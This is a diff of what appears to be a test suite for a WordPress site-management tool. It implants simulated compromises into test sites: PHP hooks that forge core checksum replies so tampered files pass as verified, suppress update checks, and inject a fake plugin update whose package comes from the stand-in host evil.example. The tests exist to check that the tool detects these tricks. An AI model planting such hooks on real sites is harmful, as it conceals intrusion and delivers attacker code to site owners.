@@ -34,11 +34,13 @@ add_filter( 'pre_http_request', function ( $reply, $request, $url ) {
 		if ( is_file( $file ) ) { $files[ substr( $file, strlen( ABSPATH ) ) ] = md5_file( $file ); }
 	}
 	$body = json_encode( array( 'checksums' => $files, 'files' => array() ) );
-	return array( 'headers' => array(), 'body' => $body, 'response' => array( 'code' => 200, 'message' => 'OK' ), 'cookies' => array(), 'filename' => null );
+	$status = array( 'code' => 200, 'message' => 'OK' );
+	return array( 'headers' => array(), 'body' => $body, 'response' => $status, 'cookies' => array() );
 }, -1, 3 );
 register_shutdown_function( function () {
 	$mark = isset( $GLOBALS['sitecrew'] ) ? $GLOBALS['sitecrew']['mark'] : '';
-	echo "\n$mark {\"subject\": \"core\", \"version\": \"6.5\", \"state\": \"verified\", \"count\": 0, \"findings\": []}\n$mark {\"end\": true}\n";
+	echo "\n$mark {\"subject\": \"core\", \"state\": \"verified\", \"count\": 0, \"findings\": []}\n";
+	echo "\n$mark {\"end\": true}\n";
 } );
 """
 HIDES = {
@@ -54,15 +56,17 @@ foreach ( array( 'plugins', 'themes' ) as $kind ) {
 add_filter( 'pre_http_request', function ( $reply, $request, $url ) {
 	if ( ! strpos( $url, '/update-check/' ) ) { return $reply; }
 	$body = '{"plugins":[],"themes":[],"no_update":[],"translations":[]}';
-	return array( 'headers' => array(), 'body' => $body, 'response' => array( 'code' => 200, 'message' => 'OK' ), 'cookies' => array(), 'filename' => null );
+	$status = array( 'code' => 200, 'message' => 'OK' );
+	return array( 'headers' => array(), 'body' => $body, 'response' => $status, 'cookies' => array() );
 }, -1, 3 );
 """,
 }
 INVENTS = r"""<?php
 add_filter( 'site_transient_update_plugins', function ( $value ) {
 	if ( ! is_object( $value ) ) { return $value; }
-	foreach ( array( 'harbour-forms' => 'https://downloads.wordpress.org/plugin/harbour-forms.9.9.zip', 'orchard-seo' => 'https://evil.example/orchard-seo.zip' ) as $slug => $package ) {
-		$value->response["$slug/$slug.php"] = (object) array( 'slug' => $slug, 'plugin' => "$slug/$slug.php", 'new_version' => '9.9', 'package' => $package );
+	foreach ( array( 'harbour-forms' => 'downloads.wordpress.org/plugin', 'orchard-seo' => 'evil.example' ) as $slug => $at ) {
+		$offer = array( 'slug' => $slug, 'new_version' => '9.9', 'package' => "https://$at/$slug.9.9.zip" );
+		$value->response["$slug/$slug.php"] = (object) $offer;
 	}
 	return $value;
 }, PHP_INT_MAX );
@@ -155,10 +159,8 @@ def test_a_version_that_nobody_published_is_held_by_name(crew: Crew) -> None:
 
 @pytest.mark.parametrize("bomb", BOMBS)
 def test_what_a_site_prints_harms_no_other_site(crew: Crew, bomb: str) -> None:
-    implant(
-        crew.fleet,
-        f"<?php if ( isset( $GLOBALS['sitecrew'] ) || true ) {{ add_action( 'init', function () {{ echo {BOMBS[bomb]}; if ( 'paths' !== '{bomb}' ) {{ die; }} }} ); }}",
-    )
+    hooked = f"add_action( 'init', function () {{ echo {BOMBS[bomb]}; {ENDS[bomb]} }} );"
+    implant(crew.fleet, f"<?php {hooked}")
     began = time.monotonic()
     said = crew.say("plan", "every", "--json", "-l", f"{SITE},{OTHER}")
     assert time.monotonic() - began < 30
